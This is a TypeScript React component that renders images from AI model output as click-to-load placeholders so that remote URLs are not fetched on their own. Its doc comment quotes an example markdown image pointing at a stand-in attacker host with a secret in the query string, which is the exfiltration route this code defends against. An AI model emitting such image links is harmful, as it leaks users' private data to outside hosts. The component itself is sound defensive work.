import { useState } from 'react';
import type { ExtraProps } from 'react-markdown';
import { checkUrl } from './safe-url.ts';

/** Props react-markdown passes to the `img` override (only the ones we read). */
export type MarkdownImageProps = {
  readonly src?: string | Blob | undefined;
  readonly alt?: string | undefined;
} & ExtraProps;

const MAX_ALT_LENGTH = 200;

/**
 * An image from model output, never fetched on its own: a remote image URL is an
 * exfiltration channel (`![x](https://evil.example/?q=<secret>)` leaks the moment it
 * loads). The user sees the alt text and the host and clicks to load that one image.
 * data: URIs and every other scheme are not loaded at all (refused by the URL policy).
 */
export function MarkdownImage({ src, alt }: MarkdownImageProps) {
  const [loaded, setLoaded] = useState(false);
  const altText = clip(alt ?? '');
  const check = checkUrl(typeof src === 'string' ? src : '', 'image');
  if (!check.ok) {
    return (
      <span
        className="md-image-blocked"
        data-testid="image-blocked"
        title="Only http and https images can be loaded"
      >
        [image{altText ? `: ${altText}` : ''} — not loaded]
      </span>
    );
  }
  if (loaded) {
    return (
      <img
        className="md-image"
        data-testid="image-loaded"
        src={check.href}
        alt={altText}
        title={check.href}
        referrerPolicy="no-referrer"
        decoding="async"
      />
    );
  }
  return (
    <button
      type="button"
      className="md-image-placeholder"
      data-testid="image-placeholder"
      title={`Load ${check.href}`}
      onClick={() => setLoaded(true)}
    >
      <span className="md-image-alt">{altText || 'Image'}</span>
      <span className="md-image-host" dir="ltr">
        {' '}
        · {check.host} · click to load
      </span>
    </button>
  );
}

function clip(text: string): string {
  return text.length > MAX_ALT_LENGTH ? `${text.slice(0, MAX_ALT_LENGTH)}…` : text;
}
